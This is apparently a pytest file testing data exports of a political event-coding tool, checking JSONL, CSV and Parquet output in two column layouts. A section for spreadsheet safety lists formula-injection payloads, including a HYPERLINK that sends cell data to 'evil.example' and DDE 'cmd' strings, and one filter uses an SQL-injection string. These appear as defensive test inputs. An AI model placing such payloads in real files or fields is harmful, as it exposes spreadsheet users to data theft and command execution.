"""Exports in casus's and Phoenix's layouts, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pyarrow.parquet as pq
import pytest

import casus.analysis.export
from casus.analysis.export import CASUS_COLUMNS, PHOENIX_COLUMNS, arrow_schema, export_events
from casus.model import Place, event_ids
from casus.store import EventFilter, Store, open_store
from pg import sample_corpus


@pytest.fixture(scope="module")
def filled(module_db_url: str) -> Iterator[Store]:
    with open_store(module_db_url) as store:
        store.save_batch(store.begin_run(sources=[], options={}), sample_corpus())
        yield store


def test_jsonl_casus_layout_is_the_event_schema(filled: Store, tmp_path: Path) -> None:
    out = tmp_path / "events.jsonl"
    assert export_events(filled, out, fmt="jsonl") == 6
    lines = out.read_text(encoding="utf-8").splitlines()
    assert [json.loads(line) for line in lines] == list(filled.iter_events())
    assert "Путин" in lines[4]  # unicode written as text, not \\u escapes


def test_csv_casus_layout_is_flat(filled: Store, tmp_path: Path) -> None:
    out = tmp_path / "events.csv"
    assert export_events(filled, out, fmt="csv", filters=EventFilter(actor="RUS")) == 2
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == [c.name for c in CASUS_COLUMNS]
    first = rows[0]
    assert (first["source_code"], first["target_code"], first["cameo"]) == (
        "RUSMIL",
        "UKRMIL",
        "190",
    )
    assert first["place_country"] == "UKR" and first["article_published"] == "2021-03-01"
    article, _, events = sample_corpus()[0]
    assert first["event_id"] == event_ids(article.id, events)[0]
    assert rows[1]["attribution_text"] == "officials" and rows[1]["target_name"] == "Путин"
    assert rows[1]["place_text"] == ""  # no place: an empty cell


def test_phoenix_layout(filled: Store, tmp_path: Path) -> None:
    out = tmp_path / "phoenix.csv"
    assert export_events(filled, out, fmt="csv", layout="phoenix") == 6
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == [c.name for c in PHOENIX_COLUMNS]
    killed = next(r for r in rows if r["EventCode"] == "180")
    assert killed["Date"] == "20210110" and killed["Year"] == "2021" and killed["Day"] == "10"
    assert killed["SourceActorFull"] == "" and killed["TargetActorEntity"] == "SYR"
    shelling = next(r for r in rows if r["EventCode"] == "190")
    assert shelling["SourceActorFull"] == "RUSMIL"
    assert (shelling["SourceActorEntity"], shelling["SourceActorRole"]) == ("RUS", "MIL")
    assert (shelling["EventRootCode"], shelling["QuadClass"]) == ("19", "4")
    assert (shelling["LocationName"], shelling["CountryCode"]) == ("Ukraine", "UKR")
    assert shelling["URLs"] == "https://www.example-news.org/a1"
    assert shelling["NewsSources"] == "example-news.org"
    assert shelling["SentenceID"].endswith("_0")
    assert {r["Issues"] + r["Lat"] + r["Lon"] + r["StateName"] for r in rows} == {""}
    undated = next(r for r in rows if r["EventCode"] == "025")
    assert undated["Date"] == "" and undated["Year"] == ""


def test_phoenix_columns_are_documented() -> None:
    doc = casus.analysis.export.__doc__ or ""
    assert [c.name for c in PHOENIX_COLUMNS if c.name not in doc] == []


@pytest.mark.parametrize("layout", ["casus", "phoenix"])
def test_parquet_has_the_explicit_schema_and_streams_in_chunks(
    filled: Store, tmp_path: Path, layout: str
) -> None:
    out = tmp_path / "events.parquet"
    assert export_events(filled, out, fmt="parquet", layout=layout, chunk=4) == 6
    columns = CASUS_COLUMNS if layout == "casus" else PHOENIX_COLUMNS
    parquet = pq.ParquetFile(out)
    assert parquet.schema_arrow == arrow_schema(columns)
    assert parquet.num_row_groups == 2  # 4 + 2 rows
    table = parquet.read()
    if layout == "casus":
        assert table.column("article_published").to_pylist()[0] == dt.date(2021, 1, 15)
        assert "Путин" in table.column("target_name").to_pylist()
    else:
        assert table.column("QuadClass").to_pylist() == [1, 1, 4, 4, 3, 1]


def test_empty_exports_still_have_header_and_schema(filled: Store, tmp_path: Path) -> None:
    nothing = EventFilter(actor="'; DROP TABLE events; --")
    text = io.StringIO()
    assert export_events(filled, text, fmt="csv", filters=nothing) == 0
    assert text.getvalue().startswith("event_id,article_id,position,")
    out = tmp_path / "empty.parquet"
    assert export_events(filled, out, fmt="parquet", filters=nothing, layout="phoenix") == 0
    assert pq.read_table(out).num_rows == 0
    assert filled.count()["events"] == 6


def test_binary_and_text_streams(filled: Store) -> None:
    raw = io.BytesIO()
    assert export_events(filled, raw, fmt="jsonl", filters=EventFilter(roots=("11",))) == 1
    assert json.loads(raw.getvalue().decode("utf-8"))["target"]["text"] == "Путин"
    assert not raw.closed  # the caller's file stays open
    parquet = io.BytesIO()
    assert export_events(filled, parquet, fmt="parquet") == 6
    assert pq.read_table(io.BytesIO(parquet.getvalue())).num_rows == 6
    with pytest.raises(ValueError, match="binary"):
        export_events(filled, io.StringIO(), fmt="parquet")


def test_phoenix_jsonl_rows_are_flat(filled: Store) -> None:
    text = io.StringIO()
    export_events(
        filled, text, fmt="jsonl", layout="phoenix", filters=EventFilter(quad_classes=(4,))
    )
    rows = [json.loads(line) for line in text.getvalue().splitlines()]
    assert [r["EventCode"] for r in rows] == ["180", "190"]
    assert rows[1]["Month"] == 3 and rows[1]["GoldsteinScore"] == -1.5


def test_bad_format_or_layout(filled: Store) -> None:
    with pytest.raises(ValueError, match="format"):
        export_events(filled, io.StringIO(), fmt="xlsx")
    with pytest.raises(ValueError, match="layout"):
        export_events(filled, io.StringIO(), fmt="csv", layout="gdelt")


# -- issue 11: formulas, every Phoenix column, one identity --------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click here")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _hostile_store(path: Path) -> Store:
    from casus.extract import article_id
    from casus.model import Article
    from pg import actor_ref, make_event

    store = open_store(path)
    batch = []
    for i, formula in enumerate(FORMULAS):
        text = f"{formula} Russian forces shelled Kharkiv. ({i})"
        article = Article(
            id=article_id(text), text=text, title=formula, url=formula, source_name=formula
        )
        source = actor_ref("RUS", "MIL", "", formula, formula, 0)
        event = make_event(article.id, 0, "190", source=source, target=None, quad_class=4)
        event = dataclasses.replace(event, sentence=text, goldstein=-10.0)
        batch.append((article, f"raw-{i}", [event]))
    store.save_batch(store.begin_run(sources=[], options={}), batch)
    return store


def test_csv_export_neutralises_spreadsheet_formulas(tmp_path: Path) -> None:
    with _hostile_store(tmp_path / "f.db") as store:
        for layout, cells in (
            ("casus", ("sentence", "article_title", "source_text")),
            ("phoenix", ("URLs",)),
        ):
            safe = io.StringIO()
            export_events(store, safe, fmt="csv", layout=layout)
            rows = list(csv.DictReader(io.StringIO(safe.getvalue())))
            assert len(rows) == len(FORMULAS)
            for row in rows:
                for name in cells:
                    assert row[name].startswith("'") and row[name][1:2] in "=+-@\t\r", row[name]
            score = "goldstein" if layout == "casus" else "GoldsteinScore"
            assert {r[score] for r in rows} == {"-10.0"}  # numbers are not formulas
            raw = io.StringIO()
            export_events(store, raw, fmt="csv", layout=layout, raw_cells=True)
            raw_rows = list(csv.DictReader(io.StringIO(raw.getvalue())))
            assert {r[cells[0]][:1] for r in raw_rows} <= set("=+-@\t\r")
        jsonl = io.StringIO()
        export_events(store, jsonl, fmt="jsonl")
        assert {
            json.loads(line)["article"]["title"] for line in jsonl.getvalue().splitlines()
        } == set(FORMULAS)


def test_export_command_neutralises_unless_raw_cells(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from casus.cli import app

    _hostile_store(tmp_path / "f.db").close()
    runner = CliRunner()
    args = ["export", "--db", str(tmp_path / "f.db"), "--format", "csv"]
    safe = runner.invoke(app, args)
    assert safe.exit_code == 0, safe.output
    titles = [r["article_title"] for r in csv.DictReader(io.StringIO(safe.stdout))]
    assert titles and all(t.startswith("'") for t in titles)
    raw = runner.invoke(app, [*args, "--raw-cells"])
    assert sorted(r["article_title"] for r in csv.DictReader(io.StringIO(raw.stdout))) == sorted(
        FORMULAS
    )
    help_text = runner.invoke(app, ["export", "--help"], terminal_width=200).output
    assert "--raw-cells" in help_text


def test_spreadsheet_safe() -> None:
    from casus.analysis.export import spreadsheet_safe

    assert spreadsheet_safe("=1+1") == "'=1+1" and spreadsheet_safe("@A1") == "'@A1"
    assert spreadsheet_safe("-1.5") == "-1.5" and spreadsheet_safe("+3") == "+3"
    assert spreadsheet_safe("Russia = aggressor") == "Russia = aggressor"
    assert spreadsheet_safe("") == ""


PAGE = """<html><head><title>Shelling in Kharkiv</title>
<link rel="canonical" href="https://www.example-news.org/world/kharkiv">
<meta property="og:site_name" content="Example News">
<meta property="og:url" content="https://www.example-news.org/world/kharkiv">
</head><body><article><h1>Shelling in Kharkiv</h1>
<p>Russian forces shelled Kharkiv on Monday, the Ukrainian army said in a statement. Officials
in Kyiv condemned the attack and said that the strikes had hit homes and a school.</p>
</article></body></html>"""


def test_phoenix_fills_every_column_casus_knows(tmp_path: Path) -> None:
    from casus.extract import extract
    from casus.model import RawDoc
    from pg import actor_ref, make_event

    article = extract(RawDoc("page.html", PAGE.encode()))  # no URL or outlet from the caller
    assert article.url == "https://www.example-news.org/world/kharkiv"
    assert article.outlet == "Example News"
    city = {
        "text": "Kharkiv", "start": 23, "end": 30, "name": "Kharkiv", "kind": "city",
        "country": "UKR", "countries": ["UKR"], "admin1": "Kharkivska Oblast",
        "lat": 49.98081, "lon": 36.25272, "geonames_id": 706483, "method": "sentence-place",
    }  # fmt: skip
    country = {**city, "text": None, "name": "Ukraine", "kind": "country", "admin1": None}
    rus = actor_ref("RUS", "MIL", "", "Russian military", "Russian forces", 0)
    events = [
        make_event(
            article.id, 0, "190", source=rus, target=None, quad_class=4, place=Place.from_dict(city)
        ),
        make_event(
            article.id,
            1,
            "111",
            source=rus,
            target=None,
            quad_class=3,
            place=Place.from_dict(country),
        ),
    ]
    with open_store(tmp_path / "p.db") as store:
        store.save_batch(store.begin_run(sources=[], options={}), [(article, "raw", events)])
        out = io.StringIO()
        export_events(store, out, fmt="csv", layout="phoenix")
        shelling, condemned = list(csv.DictReader(io.StringIO(out.getvalue())))
        casus_rows = io.StringIO()
        export_events(store, casus_rows, fmt="csv")
        first = next(csv.DictReader(io.StringIO(casus_rows.getvalue())))
    assert (shelling["Lat"], shelling["Lon"]) == ("49.98081", "36.25272")
    assert shelling["LocationName"] == "Kharkiv" and shelling["CountryCode"] == "UKR"
    assert shelling["StateName"] == "Kharkivska Oblast"
    assert shelling["URLs"] == "https://www.example-news.org/world/kharkiv"
    assert shelling["NewsSources"] == "Example News"
    assert shelling["EventID"] == event_ids(article.id, events)[0]
    assert condemned["LocationName"] == "Ukraine" and condemned["StateName"] == ""
    assert shelling["Issues"] == ""
    doc = casus.analysis.export.__doc__ or ""
    assert "no geocoding" not in doc and "Lat and Lon" in doc
    assert (first["place_name"], first["place_lat"], first["place_admin1"]) == (
        "Kharkiv",
        "49.98081",
        "Kharkivska Oblast",
    )


def test_code_and_the_store_give_an_event_the_same_id(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from casus.cli import app
    from casus.ingest import IngestOptions, ingest

    path = tmp_path / "some-name.txt"
    path.write_text(
        "Russian forces shelled Ukrainian positions near Kharkiv on Monday, the army said. "
        "France and Germany condemned the strikes.\n",
        encoding="utf-8",
    )
    coded = CliRunner().invoke(app, ["code", "--format", "jsonl", str(path)])
    assert coded.exit_code == 0, coded.output
    from_code = [json.loads(line)["event_id"] for line in coded.stdout.splitlines()]
    assert len(from_code) >= 2 and all(len(i) == 32 for i in from_code)
    renamed = tmp_path / "another-name.txt"  # the id is the text's, not the file's
    renamed.write_bytes(path.read_bytes())
    with open_store(tmp_path / "i.db") as store:
        ingest([str(renamed)], store=store, options=IngestOptions(workers=0))
        from_store = [e["event_id"] for e in store.iter_events()]
        out = io.StringIO()
        export_events(store, out, fmt="csv", layout="phoenix")
    assert from_store == from_code
    assert [r["EventID"] for r in csv.DictReader(io.StringIO(out.getvalue()))] == from_code


def test_export_min_confidence_keeps_only_confident_events(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from casus.cli import app

    db = tmp_path / "c.db"
    text = tmp_path / "a.txt"
    text.write_text(
        "Ethiopian troops shelled Eritrean positions near the border on Monday. "
        "officers detained four youths after the scuffle.\n",
        encoding="utf-8",
    )
    runner = CliRunner()
    assert (
        runner.invoke(app, ["ingest", "--db", str(db), "--workers", "0", str(text)]).exit_code == 0
    )
    every = runner.invoke(app, ["export", "--db", str(db), "--format", "jsonl"])
    confident = runner.invoke(
        app, ["export", "--db", str(db), "--format", "jsonl", "--min-confidence", "0.7"]
    )
    rows = [json.loads(line) for line in confident.output.splitlines() if line.startswith("{")]
    everything = [line for line in every.output.splitlines() if line.startswith("{")]
    assert len(everything) > len(rows) > 0
    assert all(r["confidence"] >= 0.7 for r in rows)
